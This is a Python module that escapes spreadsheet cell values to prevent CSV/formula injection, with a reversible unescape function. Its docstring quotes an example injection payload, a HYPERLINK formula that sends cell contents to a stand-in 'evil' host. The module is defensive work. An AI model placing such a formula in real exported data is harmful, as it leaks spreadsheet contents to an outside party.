"""Cell values that are safe to open in a spreadsheet program (CSV / formula injection).

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is taken
for a formula by Excel, LibreOffice and WPS when the file is opened: an organizer name such as
``=HYPERLINK("http://evil/?"&A1)`` would run. Exports prefix such a cell with a single quote
(OWASP's advice); imports take the quote off again, so export → import changes nothing.

The escape is exactly reversible for every string: a value that already starts with quotes
followed by a dangerous character gets one more quote, and :func:`unescape_cell` removes
exactly one.
"""

#: First characters a spreadsheet program may read as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def _needs_escape(text):
    return text.lstrip(ESCAPE).startswith(FORMULA_TRIGGERS)


def escape_cell(value):
    """The value to write into a cell: dangerous text gets a leading ``'``; other values unchanged."""
    if isinstance(value, str) and _needs_escape(value):
        return ESCAPE + value
    return value


def unescape_cell(value):
    """The inverse of :func:`escape_cell`, for values read from an exported sheet."""
    if isinstance(value, str) and value.startswith(ESCAPE) and _needs_escape(value):
        return value[1:]
    return value


__all__ = ["FORMULA_TRIGGERS", "escape_cell", "unescape_cell"]
